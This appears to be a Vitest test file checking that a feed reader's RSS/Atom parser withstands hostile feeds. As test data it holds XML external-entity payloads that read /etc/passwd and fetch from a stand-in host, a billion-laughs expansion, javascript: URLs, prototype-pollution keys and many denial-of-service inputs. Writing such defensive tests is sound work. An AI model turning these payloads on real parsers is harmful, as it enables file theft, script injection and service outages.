import { describe, expect, it } from 'vitest';
import type { ParsedFeed } from '../../../src/main/feeds/parse/parsed-feed';
import { ProblemError } from '../../../src/shared/model/problem';
import { parseItem, parseText } from './parse-text';

const rss = (content: string): string =>
  `<rss version="2.0"><channel><title>T</title>${content}</channel></rss>`;
const item = (content: string): string => rss(`<item><title>x</title>${content}</item>`);
const many = (text: string, times = 60_000): string => text.repeat(times);

describe('a hostile feed', () => {
  it('gets no entity expanded: not a billion laughs, not a local file', async () => {
    const laughs = Array.from({ length: 12 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join(
      '',
    );
    const feed = await parseText(
      `<!DOCTYPE rss [<!ENTITY l0 "ha">${laughs}<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://evil.example/">%p;]>
       ${item('<description>&l12; &file;</description>')}`,
    );
    expect(feed.items[0]?.contentHtml).toBe('&l12; &file;');
  });

  it('gets no script address into a link, a picture or an enclosure', async () => {
    const read = await parseItem(
      `<link>javascript:alert(1)</link><comments>javascript:alert(1)</comments><guid>data:text/html,x</guid>
       <enclosure url="file:///etc/passwd"/><itunes:image href="data:image/png;base64,AAAA"/>`,
    );
    expect(read).toMatchObject({ url: null, comments: { url: null }, enclosures: [], leadImage: null });
  });

  it('cannot reach what objects inherit', async () => {
    const read = await parseItem('<__proto__>x</__proto__><constructor>y</constructor><title>ok</title>');
    expect(read.title).toBe('ok');
    expect(({} as Record<string, unknown>).x).toBeUndefined();
  });

  it.each([
    ['unclosed comments', rss(many('<!--'))],
    ['unclosed CDATA', item(`<description>${many('<![CDATA[')}`)],
    ['unclosed instructions', many('<?x ') + rss('')],
    ['doctypes', many('<!DOCTYPE [') + rss('')],
    ['broken tags', many('<a ') + rss('')],
    ['roots', many('<rss ')],
    ['nested items', rss(many('<item>'))],
    ['nested elements', item(`<description>${many('<div>')}</description>`)],
    ['nested fields', item(many('<description>'))],
    ['nested groups', item(many('<media:group>'))],
    ['namespace declarations', rss(many('<item xmlns:a="b">', 20_000))],
    ['open quotes', item(`<description>${many('<a b="')}</description>`)],
    ['escaped tags that make excerpts slow', item(`<content:encoded>${many('a&lt;p')}</content:encoded>`)],
    ['escaped comments in a title', item(`<title>${many('&lt;!--')}</title>`)],
    ['relative pictures', item(`<description><![CDATA[${many('<img src="x"')}]]></description>`)],
    ['a long srcset', item(`<description><![CDATA[<img srcset="${many('a,')}">]]></description>`)],
    ['a long name', item(`<author>${many('a@')}</author>`)],
    ['a long date', item(`<pubDate>${many('1')}</pubDate>`)],
    ['stray angles', item(`<author>${many('< ')}</author>`)],
    ['categories', item(many('<category>x</category>'))],
    ['items', rss(many('<item><title>x</title></item>', 50_000))],
  ])(
    'does not hang the reader with %s',
    async (_, text) => {
      // Each takes well under a second; anything that grows with the square of its input would run into the limit.
      const outcome = await parseText(text).catch((error: unknown) => error);
      expect(outcome instanceof ProblemError || Array.isArray((outcome as ParsedFeed).items)).toBe(true);
    },
    60_000,
  );

  const long = `https://n.example/${'deep/'.repeat(5_000)}`;
  const nearlyLong = `https://n.example/${'deep/'.repeat(190)}`;
  it.each([
    [
      'a base of its own',
      `<rss xml:base="${long}"><channel>${many('<item><link>a</link></item>', 3_000)}</channel></rss>`,
    ],
    [
      'a base that is just short enough',
      `<rss xml:base="${nearlyLong}"><channel>${many('<item><link>a</link></item>', 3_000)}</channel></rss>`,
    ],
    [
      'relative pictures in a text',
      `<rss xml:base="${nearlyLong}"><channel><item><description><![CDATA[${many('<img src=x>', 20_000)}]]></description></item></channel></rss>`,
    ],
    [
      'fields that share a base',
      `<rss xml:base="${nearlyLong}"><channel><item><guid>1</guid><media:group>${many('<media:title/>', 900)}</media:group></item></channel></rss>`,
    ],
    [
      'authors whom every entry inherits',
      `<feed xmlns="http://www.w3.org/2005/Atom">${Array.from({ length: 500 }, (_, i) => `<author><name>${i} ${'Ann '.repeat(500)}</name></author>`).join('')}${many('<entry><id>1</id></entry>', 3_000)}</feed>`,
    ],
    [
      'a language',
      `<rss xml:lang="${'x'.repeat(100_000)}"><channel>${many('<item><guid>1</guid></item>', 3_000)}</channel></rss>`,
    ],
    ['a page', rss(`<link>${long}</link>${many('<item><link>a</link></item>', 3_000)}`)],
  ])('does not swell by %s', async (_, text) => {
    const feed = await parseText(text);
    expect(feed.items.length).toBeGreaterThan(0);
    expect(JSON.stringify(feed).length).toBeLessThan(60 * text.length);
  });

  it('is cut after ten thousand items and keeps the first', async () => {
    const feed = await parseText(
      rss(Array.from({ length: 10_050 }, (_, i) => `<item><title>${i}</title></item>`).join('')),
    );
    expect([feed.items.length, feed.items[0]?.title, feed.items.at(-1)?.title]).toEqual([
      10_000,
      '0',
      '9999',
    ]);
  });
});
